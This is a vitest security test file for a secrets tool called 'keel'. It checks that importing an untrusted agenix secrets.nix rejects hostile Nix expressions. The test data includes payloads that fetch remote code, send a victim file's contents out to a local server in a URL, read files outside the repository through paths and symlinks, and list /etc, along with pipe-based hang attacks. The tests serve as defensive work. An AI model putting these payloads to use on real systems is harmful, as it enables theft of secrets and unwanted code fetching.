import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { open } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { keel } from '../../support/keel/keel-in-process.ts'
import { newKey } from '../../support/secrets/secret-keys.ts'

/**
 * A stranger's agenix repository, taken over with the real Nix. What is beside it must not be read, and nobody be told.
 */

const root = mkdtempSync(join(tmpdir(), 'keel-stranger-'))
const repo = join(root, 'repo')
const key = newKey('ssh-ed25519').recipient
const asked: string[] = []
const server = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.end('"planted"')
})
let url = ''

beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  url = `http://127.0.0.1:${port}`
  mkdirSync(join(repo, '.git'), { recursive: true })
  mkdirSync(join(repo, 'secrets'))
  writeFileSync(join(root, 'victim.txt'), 'TOP-SECRET-OF-ADMIN')
  writeFileSync(join(root, 'victim.nix'), '"TOP-SECRET-OF-ADMIN"')
  symlinkSync('../../victim.txt', join(repo, 'secrets/link.txt'))
  symlinkSync('../..', join(repo, 'secrets/up'))
  writeFileSync(join(repo, 'keys.nix'), `{ me = "${key}"; }`)
  execFileSync('mkfifo', [join(repo, 'secrets/pipe.nix')])
})
afterAll(() => {
  server.close()
  rmSync(root, { recursive: true })
})

let made = 0
async function takeOver(secretsNix: string, more: Parameters<typeof keel>[3] = {}) {
  writeFileSync(join(repo, 'secrets/secrets.nix'), secretsNix)
  const folder = `made-${made++}`
  const run = await keel(root, ['init', '-y', folder, '--from-agenix', 'repo/secrets/secrets.nix'], '', more)
  return { ...run, folder: join(root, folder) }
}
const sent = (expression: string) => `{ "x.age".publicKeys = [ (builtins.seq (${expression}) "${key}") ]; }`

test.each([
  ['fetches a URL', () => `builtins.readFile (builtins.fetchurl "${url}/a")`],
  ['fetches a tarball', () => `import (builtins.fetchTarball "${url}/b")`],
  ['fetches a git repository', () => `builtins.fetchGit "${url}/c"`],
  ['sends a file of this machine away', () => `builtins.fetchurl "${url}/\${builtins.readFile ${root}/victim.txt}"`],
  ['reads a file beside the repository', () => 'builtins.readFile ../../victim.txt'],
  ['reads a file by its absolute path', () => `builtins.readFile ${root}/victim.txt`],
  ['reads a file through a link', () => 'builtins.readFile ./link.txt'],
  ['reads a file through a linked folder', () => 'builtins.readFile ./up/victim.txt'],
  ['imports a file beside the repository', () => 'import ../../victim.nix'],
  ['lists a folder', () => 'builtins.readDir /etc'],
  ['takes a file into the store', () => `"\${${root}/victim.txt}"`],
  ['looks a path up', () => 'import <nixpkgs> { }'],
])('attack 9: a secrets.nix that %s is refused, and nobody was asked', async (_name, expression) => {
  const { exit, out, err } = await takeOver(sent(expression()), {
    env: { ...process.env, HOME: root, NIX_PATH: `nixpkgs=${root}` },
  })
  expect(exit, err).toBe(2)
  expect(err).toMatch(/restricted mode|was not found in the Nix search path|does not exist|nothing else/)
  expect(out + err).not.toContain('TOP-SECRET')
  expect(asked).toEqual([])
})

test('attack 9: whether a file is there, and what the environment says, shows in nothing', async () => {
  const text = `{ "x.age".publicKeys = if builtins.pathExists ${root}/victim.txt || builtins.getEnv "HOME" != "" then 1 else [ "${key}" ]; }`
  expect((await takeOver(text)).err).toContain('1 rules')
})

test('what is in the repository is read as before, from folders above its own, too', async () => {
  const { err } = await takeOver('let k = import ../keys.nix; in { "x.age".publicKeys = [ k.me ]; }')
  expect(err).toContain('1 rules')
})

test('attack 11: a pipe that is imported does not keep keel beyond a signal', async () => {
  const interrupt = new AbortController()
  const run = takeOver(sent('import ./pipe.nix'), { signal: interrupt.signal })
  // waits until Nix has opened it to read
  const pipe = await open(join(repo, 'secrets/pipe.nix'), 'w')
  const sentAt = performance.now()
  interrupt.abort(new Error('SIGTERM'))
  expect((await run).exit).toBe(130)
  expect(performance.now() - sentAt).toBeLessThan(2000)
  await pipe.close()
})

test('attack 11: a secrets.nix that is a pipe, or has a comment of a megabyte', async () => {
  rmSync(join(repo, 'secrets/secrets.nix'))
  execFileSync('mkfifo', [join(repo, 'secrets/secrets.nix')])
  const { exit, err } = await keel(root, ['init', '-y', 'pipe', '--from-agenix', 'repo/secrets/secrets.nix'])
  expect([exit, err]).toEqual([2, expect.stringContaining('a pipe, socket or device')])
  rmSync(join(repo, 'secrets/secrets.nix'))
  const started = performance.now()
  expect((await takeOver(`#${'a'.repeat(900_000)}\n${sent('1')}`)).err).toContain('1 rules')
  expect(performance.now() - started).toBeLessThan(10_000)
})

test('attack 9: an encrypted file that is a link is not taken over', async () => {
  symlinkSync('../../victim.txt', join(repo, 'secrets/k3s-token.age'))
  const { exit, err, folder } = await takeOver(`{ "k3s-token.age".publicKeys = [ "${key}" ]; }`)
  expect([exit, err]).toEqual([2, expect.stringContaining('secrets/k3s-token.age: a link')])
  expect(readdirSync(root)).not.toContain(folder)
  expect(readFileSync(join(root, 'victim.txt'), 'utf8')).toBe('TOP-SECRET-OF-ADMIN')
})
